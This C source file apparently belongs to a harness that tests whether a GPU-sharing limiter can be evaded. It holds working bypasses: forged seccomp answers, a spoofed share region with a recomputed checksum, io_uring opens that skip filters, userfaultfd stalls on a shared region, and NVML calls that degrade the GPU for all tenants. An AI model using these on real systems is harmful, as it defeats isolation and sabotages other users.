/* SPDX-License-Identifier: Apache-2.0 */
/* Ways by services of the kernel: filters that answer system calls falsely, io_uring, userfaultfd. */
#include <dlfcn.h>
#include <errno.h>
#include <fcntl.h>
#include <linux/audit.h>
#include <linux/filter.h>
#include <linux/io_uring.h>
#include <linux/seccomp.h>
#include <linux/userfaultfd.h>
#include <pthread.h>
#include <signal.h>
#include <stdlib.h>
#include <string.h>
#include <sys/ioctl.h>
#include <sys/mman.h>
#include <sys/prctl.h>
#include <sys/syscall.h>
#include <unistd.h>

#include "evade.h"
#include "evade_jump.h"
#include "share_layout.h"

#define COUNT(list) (sizeof(list) / sizeof *(list))
#define REGION      "/etc/vgpu/region"

#define LOAD(offset)       BPF_STMT(BPF_LD | BPF_W | BPF_ABS, offset)
#define IS(value, yes, no) BPF_JUMP(BPF_JMP | BPF_JEQ | BPF_K, value, yes, no)
#define ANSWER(value)      BPF_STMT(BPF_RET | BPF_K, value)
#define NUMBER             offsetof(struct seccomp_data, nr)
#define ARGUMENT(i)        (offsetof(struct seccomp_data, args) + 8 * (i))

/* A descriptor where the filter notifies, 0, or −1. */
static int filter_install(struct sock_filter *rows, size_t count, unsigned flags)
{
        const struct sock_fprog program = { (unsigned short)count, rows };

        if (prctl(PR_SET_NO_NEW_PRIVS, 1, 0, 0, 0) < 0)
                return -1;
        return (int)syscall(SYS_seccomp, SECCOMP_SET_MODE_FILTER, flags, &program);
}

/* There is no share, as far as this process can tell: nor a variable that speaks of a limit. */
static bool filter_no_share(struct driver_calls *calls)
{
        static const char *const names[] = { "VGPU_MEMORY_LIMIT", "VGPU_CORES", "VGPU_DEVICES" };
        struct sock_filter rows[] = {
                LOAD(NUMBER),
                IS(SYS_faccessat, 3, 0),
                IS(SYS_faccessat2, 2, 0),
#if defined(SYS_access)
                IS(SYS_access, 1, 0),
#else
                IS(SYS_faccessat, 1, 0),
#endif
                ANSWER(SECCOMP_RET_ALLOW),
                ANSWER(SECCOMP_RET_ERRNO | ENOENT),
        };

        for (unsigned i = 0; i < COUNT(names); i++)
                unsetenv(names[i]);
        return filter_install(rows, COUNT(rows), 0) < 0 ? barred("seccomp") : calls_plain(calls);
}

/* Everybody else is dead. */
static bool filter_all_dead(struct driver_calls *calls)
{
        struct sock_filter rows[] = {
                LOAD(NUMBER), IS(SYS_kill, 0, 2),        LOAD(ARGUMENT(1)),
                IS(0, 1, 0),  ANSWER(SECCOMP_RET_ALLOW), ANSWER(SECCOMP_RET_ERRNO | ESRCH),
        };

        return filter_install(rows, COUNT(rows), 0) < 0 ? barred("seccomp") : calls_plain(calls);
}

static int share_forge(void)
{
        const int from = open(SHARE_PATH, O_RDONLY | O_CLOEXEC);
        const int fd = (int)syscall(SYS_memfd_create, "share", 0);
        struct share_file *share;
        uint32_t hash = 2166136261u;

        if (from < 0 || fd < 0 || ftruncate(fd, sizeof *share) < 0)
                return -1;
        share = mmap(NULL, sizeof *share, PROT_READ | PROT_WRITE, MAP_SHARED, fd, 0);
        if (share == MAP_FAILED || read(from, share, sizeof *share) != sizeof *share)
                return -1;
        share_raise(share);
        /* Its checksum tells of damage; a tenant makes one. */
        struct share_copy *copy = &share->copies[share->index];
        copy->checksum = 0;
        for (size_t i = 0; i < sizeof *copy; i++)
                hash = (hash ^ ((unsigned char *)copy)[i]) * 16777619u;
        copy->checksum = hash;
        return fd;
}

static int supervisor_fd = -1, forged_fd = -1;

static void request_answer(int fd, const struct seccomp_notif *request)
{
        struct seccomp_notif_resp response = { .id = request->id,
                                               .flags = SECCOMP_USER_NOTIF_FLAG_CONTINUE };
        struct seccomp_notif_addfd add = { .id = request->id, .srcfd = (uint32_t)forged_fd };
        const char *path = (const char *)(uintptr_t)request->data.args[1];

        if (strcmp(path, SHARE_PATH) == 0) {
                response.flags = 0;
                response.val = ioctl(fd, SECCOMP_IOCTL_NOTIF_ADDFD, &add);
        }
        ioctl(fd, SECCOMP_IOCTL_NOTIF_SEND, &response);
}

static void *supervise(void *argument)
{
        struct seccomp_notif request;

        (void)argument;
        while (__atomic_load_n(&supervisor_fd, __ATOMIC_ACQUIRE) < 0)
                usleep(1000);
        for (;;) {
                memset(&request, 0, sizeof request);
                if (ioctl(supervisor_fd, SECCOMP_IOCTL_NOTIF_RECV, &request) == 0)
                        request_answer(supervisor_fd, &request);
        }
        return NULL;
}

/* Whoever opens the share gets another. The thread that answers was there before the filter. */
static bool filter_other_share(struct driver_calls *calls)
{
        struct sock_filter rows[] = {
                LOAD(NUMBER),
                IS(SYS_openat, 0, 1),
                ANSWER(SECCOMP_RET_USER_NOTIF),
                ANSWER(SECCOMP_RET_ALLOW),
        };
        pthread_t thread;

        forged_fd = share_forge();
        if (forged_fd < 0 || pthread_create(&thread, NULL, supervise, NULL) != 0)
                return barred("memfd");
        const int fd = filter_install(rows, COUNT(rows), SECCOMP_FILTER_FLAG_NEW_LISTENER);
        if (fd < 0)
                return barred("seccomp");
        __atomic_store_n(&supervisor_fd, fd, __ATOMIC_RELEASE);
        return calls_plain(calls);
}

/* One openat by io_uring, where no filter sees it: its descriptor, or a negative errno. */
static int ring_open(const char *path)
{
        struct io_uring_params about = { 0 };
        const int ring = (int)syscall(SYS_io_uring_setup, 4, &about);

        if (ring < 0)
                return -errno;
        char *submit = mmap(NULL, about.sq_off.array + about.sq_entries * sizeof(unsigned),
                            PROT_READ | PROT_WRITE, MAP_SHARED, ring, IORING_OFF_SQ_RING);
        char *complete =
                mmap(NULL, about.cq_off.cqes + about.cq_entries * sizeof(struct io_uring_cqe),
                     PROT_READ | PROT_WRITE, MAP_SHARED, ring, IORING_OFF_CQ_RING);
        struct io_uring_sqe *rows = mmap(NULL, about.sq_entries * sizeof *rows,
                                         PROT_READ | PROT_WRITE, MAP_SHARED, ring, IORING_OFF_SQES);
        if (submit == MAP_FAILED || complete == MAP_FAILED || rows == MAP_FAILED)
                return -errno;
        rows[0] = (struct io_uring_sqe){ .opcode = IORING_OP_OPENAT,
                                         .fd = AT_FDCWD,
                                         .addr = (uint64_t)(uintptr_t)path,
                                         .open_flags = O_RDWR };
        ((unsigned *)(submit + about.sq_off.array))[0] = 0;
        __atomic_store_n((unsigned *)(submit + about.sq_off.tail), 1, __ATOMIC_RELEASE);
        if (syscall(SYS_io_uring_enter, ring, 1, 1, IORING_ENTER_GETEVENTS, NULL, 0) < 0)
                return -errno;
        return ((struct io_uring_cqe *)(complete + about.cq_off.cqes))[0].res;
}

static bool ring_write_share(struct driver_calls *calls)
{
        const int fd = ring_open(SHARE_PATH);

        (void)calls;
        if (fd < 0) {
                errno = -fd;
                return barred("io_uring");
        }
        struct share_file *share =
                mmap(NULL, sizeof *share, PROT_READ | PROT_WRITE, MAP_SHARED, fd, 0);
        if (share == MAP_FAILED)
                return barred("mmap");
        share_raise(share);
        return true;
}

/* Faults on the region's mapping are this process's to answer, whenever it likes. It goes on if the kernel refuses:
 * what is tried is whether others wait. */
static bool region_faults(struct driver_calls *calls)
{
        const int fd = (int)syscall(SYS_userfaultfd, O_CLOEXEC | O_NONBLOCK | 1 /* of user mode */);
        struct uffdio_api api = { .api = UFFD_API };
        struct uffdio_register range = { .mode = UFFDIO_REGISTER_MODE_MISSING };
        size_t bytes;

        (void)calls;
        range.range.start = mapping_find(REGION, &bytes);
        range.range.len = bytes;
        if (fd < 0 || ioctl(fd, UFFDIO_API, &api) < 0 || ioctl(fd, UFFDIO_REGISTER, &range) < 0)
                return barred("userfaultfd");
        return true;
}

/* What would hurt all who use the GPU: modes, clocks, power, MIG. The first that the driver lets it do ends the way. */
static bool settings_change(struct driver_calls *calls)
{
        typedef int device_fn(void *device, unsigned value, void *answer);
        static const struct {
                const char *name;
                unsigned value;
        } settings[] = {
                { "nvmlDeviceSetComputeMode", 2 },
                { "nvmlDeviceSetPersistenceMode", 0 },
                { "nvmlDeviceSetPowerManagementLimit", 60000 },
                { "nvmlDeviceSetGpuLockedClocks", 300 },
                { "nvmlDeviceResetGpuLockedClocks", 0 },
                { "nvmlDeviceSetEccMode", 0 },
                { "nvmlDeviceSetAccountingMode", 1 },
                { "nvmlDeviceSetMigMode", 1 },
                { "nvmlDeviceClearAccountingPids", 0 },
        };
        void *library = dlopen("libnvidia-ml.so.1", RTLD_NOW), *device, *answer;
        int (*init)(void), (*handle)(unsigned, void **);

        (void)calls;
        *(void **)&init = dlsym(library, "nvmlInit_v2");
        *(void **)&handle = dlsym(library, "nvmlDeviceGetHandleByIndex_v2");
        if (!init || !handle || init() != 0 || handle(0, &device) != 0)
                return barred("NVML");
        for (size_t i = 0; i < COUNT(settings); i++) {
                device_fn *set;
                *(void **)&set = dlsym(library, settings[i].name);
                if (set && set(device, settings[i].value, &answer) == 0) {
                        calls->alloc = NULL;
                        return true;
                }
        }
        errno = EPERM;
        return barred("the driver");
}

const struct way ways_kernel[] = {
        { .name = "filter-no-share", .open = filter_no_share },
        { .name = "filter-other-share", .open = filter_other_share },
        { .name = "filter-all-dead", .open = filter_all_dead },
        { .name = "io-uring", .open = calls_plain, .change = ring_write_share },
        { .name = "settings", .open = calls_plain, .change = settings_change },
        { .name = "userfaultfd", .open = calls_plain, .change = region_faults },
        { 0 },
};
